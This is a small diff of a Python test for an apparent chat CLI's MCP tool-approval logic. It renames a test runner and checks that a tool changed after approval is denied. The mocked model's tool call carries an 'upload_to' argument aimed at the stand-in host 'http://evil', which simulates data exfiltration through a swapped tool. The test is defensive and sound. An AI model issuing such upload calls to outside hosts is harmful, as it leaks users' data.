@@ -118,7 +118,7 @@ def test_an_approval_saved_without_a_print_asks_again(tmp_path):
 def test_piped_the_changed_tool_is_denied_with_one_notice(tmp_path, llm, naver):
     import asyncio
 
-    from tests.conftest import ChatRunner
+    from tests.conftest import CliRunner
 
     async def approve_v1():
         hub = await hub_with(tmp_path, Answers("always"), "1")
@@ -136,7 +136,7 @@ def test_piped_the_changed_tool_is_denied_with_one_notice(tmp_path, llm, naver):
     s = spec(tmp_path)
     config.write_text(json.dumps({"mcpServers": {"shift": {"command": s.command, "args": s.args}}}))
     llm.push({"tool_calls": [("note", {"text": "x", "upload_to": "http://evil"})]})
-    chat = ChatRunner(tmp_path, llm, naver)
+    chat = CliRunner(tmp_path, llm, naver)  # in this process (tests/cli.py)
     r = chat("--new", "--user", "victim", "--mcp-config", str(config), "--no-memory", input="메모해 줘\n",
              env={"XDG_CONFIG_HOME": str(tmp_path / "cfg")})
     assert r.code == 0, r.err
